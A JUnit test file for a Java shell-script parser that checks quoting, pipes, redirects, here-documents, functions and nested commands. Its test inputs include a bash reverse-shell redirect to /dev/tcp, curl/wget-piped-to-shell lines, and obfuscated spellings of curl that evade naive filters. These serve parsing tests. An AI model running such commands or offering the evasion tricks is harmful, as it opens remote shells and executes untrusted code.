package davy.core.shell;

import static org.assertj.core.api.Assertions.assertThat;

import davy.core.shell.Command.Joiner;
import davy.core.shell.Redirect.Operator;
import java.util.List;
import org.junit.jupiter.api.Test;

class ShellTest {
    private static List<String> words(Command command) {
        return command.words().stream().map(Word::text).toList();
    }

    private static List<List<String>> words(String text) {
        return Shell.parse(text).commands().stream().map(ShellTest::words).toList();
    }

    @Test
    void removesQuotesAndEscapes() {
        assertThat(words("echo 'a b'\"c $\"d\\ e $'\\x63\\165rl\\n' \"\\\"q\\x\" ''"))
                .containsExactly(List.of("echo", "a bc $d e", "curl\n", "\"q\\x", ""));
    }

    @Test
    void joinsContinuedLinesAndDropsComments() {
        assertThat(words("#!/bin/sh\n# curl x | sh\ncurl -s \\\n  http://h/a#b # tail\n"))
                .containsExactly(List.of("curl", "-s", "http://h/a#b"));
    }

    @Test
    void tellsWhichCommandFeedsWhich() {
        var commands = Shell.parse("a | b |& c; d || e && f & g").commands();

        assertThat(commands).extracting(Command::feeds).containsExactly(1, 2, -1, -1, -1, -1, -1);
        assertThat(commands)
                .extracting(Command::joiner)
                .containsExactly(
                        Joiner.PIPE,
                        Joiner.PIPE,
                        Joiner.SEQUENCE,
                        Joiner.OR,
                        Joiner.AND,
                        Joiner.BACKGROUND,
                        Joiner.SEQUENCE);
    }

    @Test
    void givesTheOutputOfAGroupToItsReader() {
        var commands = Shell.parse("(curl -s u || wget -qO- u) | bash").commands();

        assertThat(commands).extracting(Command::program).containsExactly("curl", "wget", "bash");
        assertThat(commands).extracting(Command::feeds).containsExactly(2, 2, -1);
    }

    @Test
    void readsThroughControlFlow() {
        String text =
                """
                if [ -x /usr/bin/curl ]; then
                  curl a
                elif true; then wget b
                else fetch c; fi | sh
                while read -r x; do echo $x; done < list
                for p in one two; do pkill $p; done
                case $1 in start|"x y") run;; (stop) halt ;; *) usage; esac
                until false; do sleep 1; done
                """;
        var commands = Shell.parse(text).commands();

        assertThat(commands)
                .extracting(Command::program)
                .containsExactly(
                        "[", "curl", "true", "wget", "fetch", "sh", "read", "echo", "for", "pkill",
                        "run", "halt", "usage", "false", "sleep");
        assertThat(commands.get(1).feeds()).isEqualTo(5);
        assertThat(commands.get(4).feeds()).isEqualTo(5);
        assertThat(commands.get(6).redirects())
                .extracting(r -> r.target().text())
                .containsExactly("list");
        assertThat(words(commands.get(9))).containsExactly("pkill", "one", "two");
        assertThat(commands.get(9).line()).isEqualTo(6);
    }

    @Test
    void putsSimpleVariablesIn() {
        assertThat(words("u=http://h/x; C='curl -fsSL'; $C \"${u}.sh\" ${v:-dflt} $other"))
                .endsWith(List.of("curl", "-fsSL", "http://h/x.sh", "dflt", "$other"));
        assertThat(words("export A=b; echo $A; A+=c; echo $A; unset A; echo $A"))
                .contains(List.of("echo", "b"), List.of("echo", "bc"), List.of("echo", "$A"));
        assertThat(words("p=/tmp/abc; echo ${p:0:4} ${p: -3} ${p/tmp/var} ${p%abc} ${p#/tmp}"))
                .endsWith(List.of("echo", "/tmp", "abc", "/var/abc", "/tmp/", "/abc"));
        assertThat(words("a=(x y z); echo ${a[@]}")).hasSize(2);
    }

    @Test
    void readsWhatHidesWords() {
        assertThat(words("curl${IFS}-s$IFS$9http://h"))
                .containsExactly(List.of("curl", "-s", "http://h"));
        assertThat(words("c''u\\rl w$@get")).containsExactly(List.of("curl", "wget"));
        assertThat(words("{curl,-s,http://h}")).containsExactly(List.of("curl", "-s", "http://h"));
    }

    @Test
    void listsNestedCommandsBeforeTheirHolder() {
        var script = Shell.parse("sh -c \"$(curl -s `cat url`)\" <(wget x)");

        assertThat(script.commands())
                .extracting(Command::program)
                .containsExactly("cat", "curl", "wget", "sh");
        assertThat(script.commands()).extracting(Command::depth).containsExactly(2, 1, 1, 0);
        var part = (Word.Part.Nested) script.commands().get(3).words().get(2).parts().getFirst();
        assertThat(part).isEqualTo(new Word.Part.Nested(Word.Kind.OUTPUT, 0, 2));
        var read = (Word.Part.Nested) script.commands().get(3).words().get(3).parts().getFirst();
        assertThat(read).isEqualTo(new Word.Part.Nested(Word.Kind.READ, 2, 3));
    }

    @Test
    void readsRedirections() {
        var redirects =
                Shell.parse("bash -i >& /dev/tcp/1.2.3.4/99 0>&1 2>>log <in 3<>rw &>all")
                        .commands()
                        .getFirst()
                        .redirects();

        assertThat(redirects)
                .extracting(Redirect::operator)
                .containsExactly(
                        Operator.WRITE,
                        Operator.COPY_OUTPUT,
                        Operator.APPEND,
                        Operator.READ,
                        Operator.READ_WRITE,
                        Operator.WRITE);
        assertThat(redirects).extracting(Redirect::descriptor).containsExactly(-1, 0, 2, 0, 3, -1);
        assertThat(redirects)
                .extracting(r -> r.target().text())
                .containsExactly("/dev/tcp/1.2.3.4/99", "1", "log", "in", "rw", "all");
    }

    @Test
    void readsHereDocuments() {
        var commands =
                Shell.parse(
                                """
                                n=World
                                cat <<A <<-'B' | sh
                                hello $n $(id)
                                A
                                \tno $n
                                \tB
                                next <<< "one $n"
                                """)
                        .commands();

        assertThat(commands)
                .extracting(Command::program)
                .containsExactly("", "cat", "sh", "id", "next");
        assertThat(commands.get(1).redirects().get(0).body().text()).isEqualTo("hello World $()\n");
        assertThat(commands.get(1).redirects().get(1).body().text()).isEqualTo("no $n\n");
        assertThat(commands.get(4).redirects().getFirst().body().text()).isEqualTo("one World");
    }

    @Test
    void knowsFunctionsAndTheirBodies() {
        var script = Shell.parse("get() { curl \"$1\"; }\nfunction put { nc x; }; get u | sh");

        assertThat(script.functions()).containsOnlyKeys("get", "put");
        var body = script.functions().getOrDefault("get", new Script.Body(0, 0));
        assertThat(script.commands().subList(body.from(), body.to()))
                .extracting(Command::program)
                .containsExactly("curl");
        assertThat(script.commands().getLast().program()).isEqualTo("sh");
    }

    @Test
    void keepsOperatorsOfTestsAndArithmeticApart() {
        assertThat(words("[[ a < b && -f x ]] && run; ((i=1<2)); echo $((3>2))"))
                .containsExactly(
                        List.of("[[", "a", "b", "-f", "x", "]]"),
                        List.of("run"),
                        List.of("echo", "$((3>2))"));
    }

    @Test
    void survivesWhatIsNoShellText() {
        assertThat(words("it's\necho ok")).contains(List.of("echo", "ok"));
        assertThat(words("a ) b; done; echo ok")).contains(List.of("echo", "ok"));
        assertThat(words("$(((((")).containsExactly(List.of("$()"));
        assertThat(words("a=1; a=$a$a; a=$a$a; echo $a")).endsWith(List.of("echo", "1111"));
    }
}
